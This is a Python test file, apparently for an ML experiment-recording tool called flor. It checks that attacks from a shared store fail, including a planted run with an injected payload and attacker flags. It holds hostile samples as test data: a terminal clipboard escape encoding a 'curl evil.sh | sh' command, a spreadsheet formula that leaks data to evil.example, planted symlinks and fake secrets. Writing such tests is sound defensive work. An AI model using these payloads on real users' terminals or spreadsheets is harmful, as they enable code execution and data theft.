"""The store stays shut (issue #41): a sweep runs only code and arguments the user trusts.

Attacks made as someone who can write to a shared store: a run planted beside the user's
own with a payload in its recorded script and flor's own flags in its recorded argv. Each
test asserts the attack failed on a real recording, with real ``flor`` commands in subprocesses.
"""

from __future__ import annotations

import importlib.util
import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from helpers import Runner, git_repo

PAYLOAD = "open('PWNED', 'w').close()  # planted\n"
PLANTED_FLAGS = ["--flor_spool", "s3://attacker-bucket/x", "--flor_trust_pickles"]


@pytest.fixture(scope="module")
def recorded(tmp_path_factory) -> Runner:
    r = Runner(tmp_path_factory.mktemp("trust"))
    r.script(dest="train.py")
    r.run(r.cwd / "train.py", "--epochs", "2", "--flor", "shared")
    return r


def _fresh(recorded: Runner, tmp_path: Path) -> tuple[Runner, str]:
    r = Runner(tmp_path)
    shutil.copytree(recorded.home, r.home)
    if (recorded.cwd / "florconfig").is_dir():  # the signing key
        shutil.copytree(recorded.cwd / "florconfig", r.cwd / "florconfig")
    shutil.copy(recorded.cwd / "train.py", r.cwd / "train.py")
    [run] = [p.name for p in (r.home / "shared" / "runs").iterdir()]
    return r, run


def _plant(r: Runner, run: str, *, sign_with: bytes | None = None) -> str:
    """A run planted beside ``run``: its recorded script runs a payload, its argv holds flor's
    flags; its signature is the victim's run's (which no longer matches), or one made with
    ``sign_with``, a key the attacker holds."""
    from flor.store.trust import key_id, run_bytes
    import hashlib
    import hmac

    planted = run[:-6] + "ffffff"
    src = r.home / "shared" / "runs" / run
    dst = r.home / "shared" / "runs" / planted
    shutil.copytree(src, dst)
    source = dst / "source" / "train.py"
    source.write_text(source.read_text().replace("import flor\n", "import flor\n" + PAYLOAD, 1))
    meta = json.loads((dst / "run.json").read_text())
    meta["run"] = planted
    meta["argv"] = [*meta["argv"], *PLANTED_FLAGS]
    if sign_with is not None:
        meta["argv"] = meta["argv"][: -len(PLANTED_FLAGS)]
        sha = hashlib.sha256(source.read_bytes()).hexdigest()
        meta["signature"] = {"key": key_id(sign_with),
                             "mac": hmac.new(sign_with, run_bytes(meta["argv"], sha), hashlib.sha256).hexdigest()}
    (dst / "run.json").write_text(json.dumps(meta))
    return planted


def _sweep(r: Runner, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "flor", "replay", "shared", *extra, "--workers", "1", "--",
                           sys.executable, "train.py"], cwd=r.cwd, env=r.env(), capture_output=True, text=True,
                          timeout=300)


def test_a_planted_run_is_skipped_its_review_shows_all_and_the_opt_in_runs_it_without_flor_flags(
        recorded: Runner, tmp_path: Path) -> None:
    r, run = _fresh(recorded, tmp_path)
    planted = _plant(r, run)
    proc = _sweep(r, "--runs", planted)  # (the user's own signed runs replay: tests/e2e/test_sweep.py)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert not (r.cwd / "PWNED").exists(), "the planted script ran"
    assert f"flor: run {planted} skipped: its recorded script and arguments are not trusted" in proc.stderr
    assert "--trust " in proc.stderr and "trusted-keys" in proc.stderr
    assert "flor: sweep: 1 skipped; exit status 1" in proc.stdout

    review = r.flor("replay", "shared", "--runs", planted, "--dry-run", "--", sys.executable, "train.py", check=False)
    out = review.stdout
    assert "-" + PAYLOAD.rstrip("\n") in out  # the payload, in the diff against today's script
    assert "--flor_spool s3://attacker-bucket/x --flor_trust_pickles" in out  # the full argv
    assert "flor's own flags in the recorded argv, never applied" in out
    token = out.split("--trust ")[1].split()[0]
    assert token.startswith(planted + ":") and "UNSIGNED" in out

    trusted = _sweep(r, "--runs", planted, "--trust", token)
    assert trusted.returncode == 0, trusted.stdout + trusted.stderr
    assert (r.cwd / "PWNED").exists()  # the user's opt-in, for this run as reviewed
    assert "FL416" in trusted.stderr
    [record] = (r.home / "shared" / "runs" / planted / "logs").glob("launch-*")
    command = json.loads(record.read_text())["command"]
    assert "--flor_spool" not in command and "--flor_trust_pickles" not in command, command
    assert "FL410" not in trusted.stderr and "FL404" not in trusted.stderr  # no spool was tried

    (r.cwd / "PWNED").unlink()
    meta = r.home / "shared" / "runs" / planted / "run.json"  # changed after the review: the token no longer fits
    meta.write_text(meta.read_text().replace('"--epochs", "2"', '"--epochs", "1"'))
    again = _sweep(r, "--runs", planted, "--trust", token)
    assert again.returncode == 1 and not (r.cwd / "PWNED").exists(), again.stdout + again.stderr


def test_a_run_signed_by_another_key_is_trusted_only_once_that_key_is(recorded: Runner, tmp_path: Path) -> None:
    import secrets

    r, run = _fresh(recorded, tmp_path)
    colleague = secrets.token_bytes(32)
    planted = _plant(r, run, sign_with=colleague)
    proc = _sweep(r, "--runs", planted)
    assert proc.returncode == 1 and not (r.cwd / "PWNED").exists(), proc.stdout + proc.stderr
    assert "signed with a key you do not trust" in proc.stderr
    folder = r.cwd / "florconfig" / "trusted-keys"
    folder.mkdir()
    (folder / "colleague").write_text(colleague.hex() + "\n")  # (one others may write is not trusted: unit tests)
    (folder / "colleague").chmod(0o600)
    review = r.flor("replay", "shared", "--runs", planted, "--dry-run", "--", sys.executable, "train.py", check=False)
    assert review.returncode == 0 and "UNSIGNED" not in review.stdout, review.stdout + review.stderr  # it would run
    assert "recorded script (no logging added)" in review.stdout and not (r.cwd / "PWNED").exists()


# -- repair deletes nothing it cannot account for ---------------------------------------------------------

NOBODY = 65534


#: run as nobody, who cannot reach this interpreter under /root: everything the commands import is
#: imported first, as root, then the process becomes nobody and runs the command
AS_NOBODY = """
import os, sys, warnings
sys.argv = ["flor", *sys.argv[1:]]
import json, difflib, numpy
import flor.cli, flor.cli.verify, flor.cli.analysis, flor.store.check, flor.store.repair, flor.store.lock, flor.analysis.show
import flor.analysis.frame, flor.analysis.output, flor.analysis.metrics, flor.store.experiment, locale, fcntl
flor.cli.build_parser()
os.setgroups([]); os.setgid(%d); os.setuid(%d)
sys.exit(flor.cli.main())
"""


def _as_nobody(r: Runner, *args: str) -> subprocess.CompletedProcess:
    """``flor ARGS`` run as another user (nobody), who cannot read what root keeps private."""
    env = {**r.env(), "HOME": "/nonexistent"}
    return subprocess.run([sys.executable, "-c", AS_NOBODY % (NOBODY, NOBODY), *args], cwd=r.cwd, env=env,
                          capture_output=True, text=True, timeout=120)


def _blobs_of(run_dir: Path) -> set[str]:
    from flor.store.experiment import blob_hashes

    out: set[str] = set()
    for manifest in (run_dir / "checkpoints").rglob("*.json"):
        blob_hashes(json.loads(manifest.read_text()), out)
    return out


@pytest.mark.skipif(not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() != 0,
                    reason="needs root to run the check as a second user (nobody)")
def test_repair_by_a_user_who_cannot_read_a_run_removes_none_of_its_blobs(tmp_path: Path) -> None:
    import os
    import tempfile

    shared = Path(tempfile.mkdtemp(prefix="flor-shared-"))  # pytest's tmp_path is root's alone
    try:
        os.chmod(shared, 0o755)
        r = Runner(shared)
        r.script(dest="train.py")
        for seed in ("0", "1"):
            r.run(r.cwd / "train.py", "--epochs", "1", "--seed", seed, "--flor", "team")
        for p in [shared, *shared.rglob("*")]:
            os.lchown(p, NOBODY, NOBODY)
        runs = sorted((r.home / "team" / "runs").iterdir())
        private = runs[1]
        for p in [private, *private.rglob("*")]:
            os.lchown(p, 0, 0)
        private.chmod(0o700)
        theirs = _blobs_of(private) - _blobs_of(runs[0])
        assert theirs
        for h in theirs:  # old enough for any grace period
            os.utime(r.home / "team" / "objects" / h[:2] / h[2:], (1e9, 1e9))

        listed = _as_nobody(r, "ls", "team")
        assert private.name in listed.stderr and "FL417" in listed.stderr, listed.stdout + listed.stderr
        checked = _as_nobody(r, "verify", "team")
        assert checked.returncode == 1 and f"runs/{private.name}: cannot be read" in checked.stdout, checked.stdout
        fixed = _as_nobody(r, "verify", "team", "--repair", "--grace", "0")
        assert "FL418" in fixed.stdout and fixed.returncode == 1, fixed.stdout + fixed.stderr
        assert all((r.home / "team" / "objects" / h[:2] / h[2:]).exists() for h in theirs), fixed.stdout
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_repair_waits_for_no_recording_and_keeps_young_blobs(recorded: Runner, tmp_path: Path) -> None:
    import os

    from flor.store import BlobStore, LocalBackend
    from flor.store.lock import release, shared

    r, _ = _fresh(recorded, tmp_path)
    root = r.home / "shared"
    orphan, _ = BlobStore(LocalBackend(root)).put(b"a recording's blob, its manifest not yet written")
    path = root / "objects" / orphan[:2] / orphan[2:]
    held = shared(root, wait=0.0)  # what a recording holds while it runs
    assert held is not None
    try:
        busy = r.flor("verify", "shared", "--repair", "--grace", "0", check=False)
    finally:
        release(held)
    assert busy.returncode == 1 and "FL418" in busy.stdout and path.exists(), busy.stdout
    young = r.flor("verify", "shared", "--repair", check=False)
    assert "kept 1 unreferenced blob(s) younger than" in young.stdout and path.exists(), young.stdout
    os.utime(path, (1e9, 1e9))
    old = r.flor("verify", "shared", "--repair", check=False)
    assert "removed unreferenced blob" in old.stdout and not path.exists(), old.stdout


# -- import flor without flor flags is inert --------------------------------------------------------------

INERT_SCRIPT = """
import sys
import tempfile
{prelude}
import flor
total = 0
for epoch in flor.it(range(3)):
    if flor.SkipBlock.step_into("train"):
        total += epoch
    total = flor.SkipBlock.end(total)
    flor.log("total", total)
print("trained", total, sys.argv[1:])
"""


@pytest.mark.skipif(__import__("os").geteuid() != 0, reason="needs root to become a uid without a passwd entry")
def test_import_flor_without_flags_touches_no_home_even_without_one(tmp_path: Path) -> None:
    """A container with an arbitrary uid (no passwd entry) and HOME unset: ``import flor`` died
    looking for a home directory it had no use for."""
    home = tmp_path / "home"
    home.mkdir()
    env = {k: v for k, v in Runner(tmp_path).env().items() if not k.startswith(("FLOR_", "XDG_"))}
    env["HOME"] = str(home)
    script = tmp_path / "plain.py"
    script.write_text(INERT_SCRIPT.format(prelude=""))
    proc = subprocess.run([sys.executable, str(script), "--lr", "1"], env=env, cwd=tmp_path, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0 and "trained 3 ['--lr', '1']" in proc.stdout, proc.stderr
    assert list(home.iterdir()) == [] and sorted(tmp_path.iterdir()) == sorted([home, script])

    # the modules flor's import needs, imported as root: the interpreter lives under /root, which the
    # unnamed uid cannot read; flor itself is imported after the switch, as that uid, with HOME unset
    mods = subprocess.run([sys.executable, "-c", "import sys; before = set(sys.modules); import flor; "
                           "print(' '.join(sorted(m for m in set(sys.modules) - before "
                           "if not m.startswith('flor') and '.' not in m)))"],
                          env=env, capture_output=True, text=True, timeout=120).stdout.split()
    uid = 4242
    prelude = (f"import os, importlib\nfor m in {mods!r}:\n    importlib.import_module(m)\n"
               f"os.setgroups([]); os.setgid({uid}); os.setuid({uid}); os.environ.pop('HOME', None)\n")
    script.write_text(INERT_SCRIPT.format(prelude=prelude))
    script.chmod(0o644)
    # that uid reads flor's files: a copy it can read, first on its path (a checkout, like CI's, may sit
    # in a folder only root can enter)
    readable = Path(tempfile.mkdtemp(prefix="flor-readable-"))
    try:
        shutil.copytree(Path(importlib.util.find_spec("flor").origin).parent, readable / "flor",
                        ignore=shutil.ignore_patterns("__pycache__"))
        for path in [readable, *readable.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        nobody = {k: v for k, v in env.items() if k != "HOME"} | {"PYTHONPATH": str(readable)}
        proc = subprocess.run([sys.executable, str(script), "--lr", "1"], env=nobody, cwd="/", capture_output=True,
                              text=True, timeout=120)
    finally:
        shutil.rmtree(readable, ignore_errors=True)
    assert proc.returncode == 0 and "trained 3" in proc.stdout, proc.stderr


# -- every number from run.json is bounded; manifests are bounded in nodes -----------------------------------

@pytest.mark.parametrize("field,value", [("started", 1e308), ("epochs_done", 10**15)])
def test_an_out_of_range_number_in_run_json_is_a_named_damaged_run(recorded: Runner, tmp_path: Path,
                                                                    field: str, value: float) -> None:
    r, run = _fresh(recorded, tmp_path)
    path = r.home / "shared" / "runs" / run / "run.json"
    meta = json.loads(path.read_text())
    meta[field] = value
    path.write_text(json.dumps(meta))
    listed = r.flor("ls", "shared", check=False)
    assert "Traceback" not in listed.stderr and "FL402" in listed.stderr and run in listed.stderr, listed.stderr
    shown = r.flor("show", "shared", run, check=False)
    assert shown.returncode == 2 and f"{field} is" in shown.stderr and "Traceback" not in shown.stderr, shown.stderr
    planned = r.flor("replay", "shared", "--run", run, "--plan", check=False)
    assert planned.returncode == 2 and "out of range" in planned.stderr, planned.stderr
    checked = r.flor("verify", "shared", check=False)
    assert checked.returncode == 1 and f"{field} is" in checked.stdout and "out of range" in checked.stdout


def test_a_manifest_of_millions_of_empty_objects_is_refused_unparsed(recorded: Runner, tmp_path: Path) -> None:
    r, run = _fresh(recorded, tmp_path)
    [manifest, *_] = sorted((r.home / "shared" / "runs" / run / "checkpoints").rglob("*.json"))
    manifest.write_bytes(b"[" + b"{}," * 3_000_000 + b"{}]")
    checked = r.flor("verify", "shared", check=False)
    assert checked.returncode == 1 and "JSON objects and lists, more than flor reads" in checked.stdout, checked.stdout


# -- output from store text is inert ---------------------------------------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # a clipboard write
FAKE = "\rflor: replay verified exact"  # a line overwritten
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_store_text_reaches_the_terminal_and_spreadsheets_inert(recorded: Runner, tmp_path: Path) -> None:
    r, run = _fresh(recorded, tmp_path)
    folder = r.home / "shared" / "runs" / run
    meta = json.loads((folder / "run.json").read_text())
    meta["hyperparameters"]["lr"] = "0.01" + OSC52
    meta["argv"].append("--note" + FAKE)
    meta["error"] = "boom" + OSC52
    (folder / "run.json").write_text(json.dumps(meta))
    with (folder / "logs" / "record.jsonl").open("a") as fh:
        for name, value in (("acc" + OSC52 + FAKE, 0.5), ("note", FORMULA)):
            fh.write(json.dumps({"name": name, "value": value, "epoch": 0, "step": None, "block": None,
                                 "t": 1.0}) + "\n")
    (folder / "checkpoints" / ("x" + OSC52)).mkdir()  # verify names it
    for args in (["ls", "shared"], ["show", "shared", run], ["logs", "shared", "--format", "table"],
                 ["logs", "shared", "--format", "csv"], ["compare", "shared", "--by", "lr", "--metric", "acc"],
                 ["verify", "shared"]):
        proc = r.flor(*args, check=False)
        assert proc.returncode in (0, 1), (args, proc.stdout + proc.stderr)
        out = proc.stdout + proc.stderr
        assert "\x1b" not in out and "\x07" not in out and "\r" not in out, (args, out)
        assert "Traceback" not in out, (args, out)
    shown = r.flor("show", "shared", run).stdout
    assert "\\x1b]52;c;" in shown  # shown, as an escape
    csv_out = r.flor("logs", "shared", "--format", "csv").stdout
    assert "'" + FORMULA.replace('"', '""') in csv_out, csv_out
    raw = r.flor("logs", "shared", "--format", "csv", "--raw").stdout
    assert '"' + FORMULA.replace('"', '""') + '"' in raw and "'" + FORMULA not in raw


# -- secrets -----------------------------------------------------------------------------------------------

SECRET_OPTIONS = '''parser.add_argument("--seed", type=int, default=0)
parser.add_argument("--env", action="append", default=[])
parser.add_argument("--hf", dest="hf_token")
parser.add_argument("-P", dest="db_password")
parser.add_argument("--cfg", type=__import__("json").loads, default={})
parser.add_argument("--url")
parser.add_argument("--hdr")'''
SECRETS = {  # the secret -> the words that give it
    "awssecret_wJalrXUtn": ["--env", "AWS_SECRET_ACCESS_KEY=awssecret_wJalrXUtn"],
    "hfsecret_S3CR3T": ["--hf", "hfsecret_S3CR3T"],
    "dbsecret_MyDbPassw0rd": ["-Pdbsecret_MyDbPassw0rd"],
    "cfgsecret_Zq8": ["--cfg", '{"lr": 0.1, "api_key": "cfgsecret_Zq8"}'],
    "urlsecret_hunter2": ["--url", "https://data.example/x?user=me&password=urlsecret_hunter2"],
    "bearersecret_abcdef123": ["--hdr", "Authorization: Bearer bearersecret_abcdef123"],
}
UNTRACKED = ("import sqlite3\nCONFIG = {'lr': 0.1, \"api_key\": \"dictsecret_K9x8c7\"}\n"
             "db = dict(host='h', password=\"kwsecret_P4ss99\")\n")


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_secrets_in_nested_hyperparameters_dest_options_untracked_code_and_urls_are_not_kept(tmp_path: Path) -> None:
    r = Runner(tmp_path)
    script = r.script(edits={'parser.add_argument("--seed", type=int, default=0)': SECRET_OPTIONS}, dest="train.py")
    git_repo(r.cwd, script)
    (r.cwd / "settings_local.py").write_text(UNTRACKED)
    (r.cwd / "helper.py").write_text("WIDTH = 24\n")  # an untracked source file without secrets: kept
    r.run(script, "--epochs", "1", *(w for words in SECRETS.values() for w in words), "--flor", "sec")
    [run] = (r.home / "sec" / "runs").iterdir()
    meta = json.loads((run / "run.json").read_text())
    assert meta["hyperparameters"]["env"] == ["AWS_SECRET_ACCESS_KEY=***"]
    assert meta["hyperparameters"]["cfg"] == {"lr": 0.1, "api_key": "***"}
    assert "-P***" in meta["argv"] and meta["argv"][meta["argv"].index("--hf") + 1] == "***"
    diff = (run / "source" / "diff.patch").read_text()
    assert "+WIDTH = 24" in diff and "settings_local.py" in meta["git"]["untracked_skipped"]
    stored = {p: p.read_bytes() for p in r.home.rglob("*") if p.is_file()}
    for secret in [*SECRETS, "dictsecret_K9x8c7", "kwsecret_P4ss99"]:
        assert not [p for p, data in stored.items() if secret.encode() in data], secret


def test_an_error_line_hides_the_password_in_the_s3_endpoint_url(recorded: Runner, tmp_path: Path) -> None:
    import socket

    r, _ = _fresh(recorded, tmp_path)
    with socket.socket() as s:  # a port nobody listens on: the endpoint cannot be reached
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**r.env(), "AWS_ENDPOINT_URL_S3": f"http://minio:endpointsecret_Pw9@127.0.0.1:{port}",
           "AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "y", "AWS_DEFAULT_REGION": "us-east-1",
           "FLOR_SPOOL": "s3://bucket/team"}
    proc = subprocess.run([sys.executable, "-m", "flor", "spool", "shared"], cwd=r.cwd, env=env, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode != 0 and "127.0.0.1" in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    assert "endpointsecret_Pw9" not in proc.stdout + proc.stderr


# -- every write stays in the store ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def s3():
    pytest.importorskip("moto.server", reason="the S3 tests need moto[server]: pip install -e '.[test]'")
    import secrets

    from s3server import MotoServer

    server = MotoServer().start()
    name = f"flor-{secrets.token_hex(6)}"
    server.client().create_bucket(Bucket=name)
    yield server, name
    server.stop()


def test_a_link_planted_at_plots_or_spool_is_never_written_through(recorded: Runner, tmp_path: Path, s3) -> None:
    from s3server import s3_env

    r, run = _fresh(recorded, tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (r.home / "shared" / "runs" / run / "plots").symlink_to(outside)
    alone = r.flor("plot", "shared", "acc", check=False)
    assert alone.returncode == 2 and "leads out of the store" in alone.stderr, alone.stdout + alone.stderr
    elsewhere = r.flor("plot", "shared", "acc", "-o", "acc.png", check=False)
    assert elsewhere.returncode == 0 and "FL501" in elsewhere.stderr, elsewhere.stdout + elsewhere.stderr
    assert (r.cwd / "acc.png").is_file() and list(outside.iterdir()) == []

    server, bucket = s3
    (r.home / "shared" / "spool").symlink_to(outside)
    env = s3_env(r, server.endpoint, f"s3://{bucket}/team")
    proc = subprocess.run([sys.executable, "-m", "flor", "spool", "shared"], cwd=r.cwd, env=env, capture_output=True,
                          text=True, timeout=180)
    assert "FL411" in proc.stderr and "leads out of the store" in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    assert list(outside.iterdir()) == []
